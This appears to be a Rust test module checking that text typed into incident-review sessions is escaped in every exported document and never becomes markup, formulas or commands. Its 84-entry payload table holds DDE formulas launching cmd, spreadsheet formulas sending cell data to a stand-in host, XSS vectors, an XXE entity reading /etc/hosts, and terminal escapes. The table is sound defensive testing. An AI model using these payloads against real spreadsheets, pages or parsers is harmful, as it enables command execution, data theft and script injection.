//! What is typed stays text: each of these in every text of a session, through every document. A document made of them has
//! the same structure as one made of harmless words of the same shape.

use super::filled::Form;
use super::markup::{self, Shape};
use super::outputs::{self, Output};
use super::{asked, harmless};
use crate::made::session;
use crate::papers::played;
use crex::documents::markdown::markdown;
use crex::documents::pieces::piece;
use crex::domain::code::Lang;
use crex::domain::incident::Incident;
use crex::domain::piece::Piece;
use crex::domain::scenario::Scenario;
use crex::domain::session::{Attendee, Session};
use crex::domain::text::Text;
use crex::store::parse;
use std::path::Path;

/// What is attacked, and with what.
pub const PAYLOADS: [(&str, &str); 84] = [
    ("spreadsheet: command by DDE", "=cmd|' /C calc'!A0"),
    ("spreadsheet: DDE behind a sum", "=1+1+cmd|' /C calc'!A0"),
    ("spreadsheet: plus", "+cmd|' /C calc'!A0"),
    ("spreadsheet: minus", "-2+3+cmd|' /C calc'!A0"),
    ("spreadsheet: at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    (
        "spreadsheet: link that tells",
        "=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"oui\")",
    ),
    (
        "spreadsheet: fetch",
        "=WEBSERVICE(\"http://exemple.invalid/\"&A1)",
    ),
    (
        "spreadsheet: import",
        "=IMPORTXML(CONCAT(\"http://exemple.invalid/\";A1);\"//a\")",
    ),
    ("spreadsheet: behind a tab", "\t=1+1"),
    ("spreadsheet: behind a carriage return", "\r=1+1"),
    ("spreadsheet: behind spaces", "   =1+1"),
    ("spreadsheet: behind a no-break space", "\u{a0}=1+1"),
    ("spreadsheet: full width", "＝1+1"),
    ("spreadsheet: full width at", "＠SUM(A1)"),
    ("spreadsheet: behind a quote", "\"=1+1"),
    ("spreadsheet: out of quotes", "\";=1+1;\""),
    ("spreadsheet: on the next line", "oui\n=1+1"),
    ("spreadsheet: new row", "oui\r\n;=1+1;"),
    ("spreadsheet: separator line", "sep=,"),
    ("spreadsheet: symbolic link", "ID;PWXL;N;E"),
    ("html: script", "<script>alert(1)</script>"),
    ("html: script with case", "<ScRiPt src=//exemple.invalid>"),
    ("html: image with an event", "<img src=x onerror=alert(1)>"),
    ("html: svg with an event", "<svg onload=alert(1)>"),
    ("html: out of an attribute", "\" onmouseover=\"alert(1)"),
    (
        "html: out of an attribute, single",
        "' onfocus='alert(1)' autofocus='",
    ),
    (
        "html: link with a script",
        "<a href=\"javascript:alert(1)\">oui</a>",
    ),
    ("html: frame", "<iframe srcdoc='<script>alert(1)</script>'>"),
    ("html: end of title", "</title><script>alert(1)</script>"),
    ("html: end of style", "</style><script>alert(1)</script>"),
    (
        "html: end of text area",
        "</textarea></noscript><script>alert(1)</script>",
    ),
    ("html: end of comment", "--><script>alert(1)</script>"),
    ("html: begin of comment", "<!-- tout est caché"),
    (
        "html: refresh",
        "<meta http-equiv=refresh content='0;url=//exemple.invalid'>",
    ),
    ("html: base", "<base href=//exemple.invalid>"),
    ("html: entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("html: entity of a number", "&#60;script&#62; &#x3c;b&#x3e;"),
    ("html: entity without end", "&ltscript&gtalert(1)"),
    ("html: escape by number", "&#27;[31m &#x9b;1m &#8238;"),
    (
        "html: svg link",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    ),
    (
        "html: foreign object",
        "</svg><foreignObject><script>alert(1)</script>",
    ),
    ("html: style", "<style>*{display:none}</style>"),
    ("html: class", "\" class=\"simulation"),
    ("html: full width angle", "＜script＞alert(1)＜/script＞"),
    ("markdown: html", "<details open ontoggle=alert(1)>"),
    ("markdown: link", "[oui](javascript:alert(1))"),
    (
        "markdown: link with entity",
        "[oui](java&#115;cript:alert(1))",
    ),
    (
        "markdown: image that tells",
        "![oui](http://exemple.invalid/?x)",
    ),
    (
        "markdown: autolink",
        "<javascript:alert(1)> <http://exemple.invalid>",
    ),
    (
        "markdown: bare link",
        "http://exemple.invalid www.exemple.invalid",
    ),
    ("markdown: reference", "[oui]: javascript:alert(1)"),
    ("markdown: reference used", "[oui][oui] ![oui][] [^1]"),
    ("markdown: footnote", "[^1]: oui"),
    ("markdown: heading", "# Titre"),
    ("markdown: heading below", "Titre\n====="),
    ("markdown: rule", "---\n***\n___"),
    ("markdown: front matter", "---\ntitle: oui\n---"),
    ("markdown: front matter, toml", "+++\ntitle = 1\n+++"),
    ("markdown: fence", "```\ncode\n```"),
    ("markdown: fence, long", "``````````\ncode"),
    ("markdown: fence of tildes", "~~~~\ncode"),
    ("markdown: code inside", "`code` ``code`` \\`code"),
    ("markdown: table", "| a | b |\n|---|---|\n| c | d |"),
    ("markdown: cell", "a | b || c \\| d"),
    ("markdown: list", "- a\n* b\n+ c\n1. d\n2) e"),
    ("markdown: tasks", "- [ ] a\n- [x] b"),
    ("markdown: quotation", "> a\n>> b"),
    ("markdown: code by indent", "a\n\n    code\n\tcode"),
    ("markdown: emphasis", "*a* **b** _c_ __d__ ~~e~~ ^f^ ~g~"),
    ("markdown: mathematics", "$a$ $$b$$ \\(c\\) \\[d\\]"),
    (
        "markdown: attributes",
        "oui {#ancre .classe onclick=alert(1)}",
    ),
    ("markdown: definition", "mot\n: définition"),
    ("markdown: backslash at the end", "oui\\"),
    ("markdown: entity", "&amp; &copy; &#35; &lt;b&gt;"),
    ("markdown: directive", ":::warning\noui\n:::"),
    (
        "xml: entity",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]><a>&b;</a>",
    ),
    ("xml: end of character data", "]]><w:p/><![CDATA["),
    (
        "xml: end of text",
        "</w:t></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO c:\\\\a</w:instrText></w:r>",
    ),
    (
        "xml: processing instruction",
        "<?xml version=\"1.1\"?><?xml-stylesheet href=\"a\"?>",
    ),
    (
        "xml: escape of a spreadsheet",
        "_x000D__x0007__x001B_[31m_x003C_b_x003E_",
    ),
    (
        "xml: no characters",
        "a\u{fffe}b\u{ffff}c\u{1b}d\u{0}e\u{8}f",
    ),
    (
        "calendar: event",
        "oui\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://exemple.invalid",
    ),
    (
        "calendar: folded",
        "oui\r\n ATTENDEE:mailto:a@exemple.invalid\\nDTSTART;X=1,2:1",
    ),
    (
        "json, terminal",
        "\",\"a\":{\"b\":[1]}\\u001b[31m\u{1b}]0;titre\u{7}\u{9b}2J\u{202e}\\",
    ),
];

/// Harmless words of the same shape as the payload at this place of the table: as many, as long, on as many lines.
fn same_shape(n: usize, payload: &str) -> String {
    let first = char::from(b'a' + u8::try_from(n % 26).unwrap());
    let second = char::from(b'a' + u8::try_from(n / 26).unwrap());
    let cleaned = Text::new(payload);
    let letters = cleaned.as_str().chars().enumerate();
    let one = |(at, c): (usize, char)| match c {
        c if c.is_whitespace() => c,
        '\u{ff00}'..='\u{ff60}' => '漢',
        _ if at % 2 == 0 => first,
        _ => second,
    };
    letters.map(one).collect()
}

/// Sessions with much in them, and the scenario of the one that is played.
pub fn bases() -> Vec<(Session, Option<Scenario>)> {
    let golden = include_bytes!("../golden/session-1.ron");
    let sealed = include_bytes!("../../../sessions/examples/ehpad-sealed.ron");
    let read = |bytes: &[u8]| parse::<Session>(Path::new("x.ron"), bytes).unwrap().doc;
    let (scenario, session) = played(Lang::En);
    vec![
        (read(golden), None),
        (read(sealed), None),
        (session, Some(scenario)),
    ]
}

fn squeezed(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn shapes(outputs: &[Output]) -> Vec<(String, Shape)> {
    let of = |output: &Output| {
        let parts = output.texts().into_iter();
        parts
            .filter_map(|(name, text)| markup::shape(&name, &text).map(|shape| (name, shape)))
            .collect::<Vec<_>>()
    };
    outputs.iter().flat_map(of).collect()
}

/// Documents of one session with the payload number `shift` in its first text, the next in its second, and so on.
fn attack(
    form: &Form,
    scenario: Option<&Scenario>,
    all: bool,
    shift: usize,
) -> Vec<(String, Shape)> {
    let mut n = shift;
    let mut m = shift;
    let attacked: Session = form.fill(all, || {
        n += 1;
        PAYLOADS[(n - 1) % PAYLOADS.len()].1.to_owned()
    });
    let meant: Session = form.fill(all, || {
        m += 1;
        let at = (m - 1) % PAYLOADS.len();
        same_shape(at, PAYLOADS[at].1)
    });
    let outputs = outputs::all(&attacked, scenario);
    outputs::all_harmless(&outputs);
    let (found, wanted) = (shapes(&outputs), shapes(&outputs::all(&meant, scenario)));
    assert_eq!(found.len(), wanted.len());
    for ((name, found), (_, meant)) in found.iter().zip(&wanted) {
        // Two leave out what would point at someone, one puts beside each other what is alike: how much depends on the words.
        if ["Rex", "Invitation", "Debrief"]
            .iter()
            .any(|kind| name.starts_with(kind))
        {
            found.made_of(&wanted, name);
        } else {
            found.same_as(meant, name, shift);
        }
    }
    found
}

#[test]
fn nothing_typed_becomes_markup_a_formula_or_a_command() {
    let rounds = asked("CREX_PAYLOADS", 1).min(PAYLOADS.len() as u64);
    let rounds = usize::try_from(rounds).unwrap();
    let (mut documents, mut fields) = (0, 0);
    let mut seen = String::new();
    for (base, scenario) in bases() {
        let form = Form::of(&base);
        for round in 0..rounds {
            let shift = round * PAYLOADS.len() / rounds;
            // Where there is one round, ids are left as they are: with others half of what is said falls away.
            for all in if rounds == 1 {
                &[false][..]
            } else {
                &[false, true]
            } {
                let told = attack(&form, scenario.as_ref(), *all, shift);
                documents += told.len();
                fields += form.len();
                if round == 0 {
                    let texts = told.iter().filter(|(name, _)| name.starts_with("Record"));
                    seen.extend(texts.map(|(_, shape)| squeezed(&shape.text) + "\n"));
                }
            }
        }
    }
    for (what, payload) in PAYLOADS {
        harmless(what, Text::new(payload).as_str());
        // What was typed is there to be read, as it was typed.
        let wanted = squeezed(Text::new(payload).as_str());
        assert!(seen.contains(&wanted), "{what}: {wanted:?} is in no record");
    }
    if std::env::var_os("CREX_PAYLOADS").is_some() {
        println!(
            "{} payloads in {fields} texts, {documents} documents and parts: 0 survive",
            PAYLOADS.len()
        );
    }
}

#[test]
fn a_function_called_like_an_article_is_left_out_once() {
    let mut made = session(1, "Appel");
    for function in ["La", "Cadre"] {
        let mut attendee = Attendee::new(made.ids.give());
        attendee.function = Text::line(function);
        made.attendees.push(attendee);
    }
    let mut incident = Incident::new(made.ids.give());
    incident.report.title = Text::line("Appel de la cadre oublié");
    let id = incident.id;
    made.incidents.push(incident);
    let sheet = markdown(&piece(&made, Piece::Rex, Some(id), made.date));
    assert!(
        sheet.contains("Appel") && sheet.contains("oublié"),
        "{sheet}"
    );
    assert!(!sheet.contains("cadre"), "{sheet}");
}
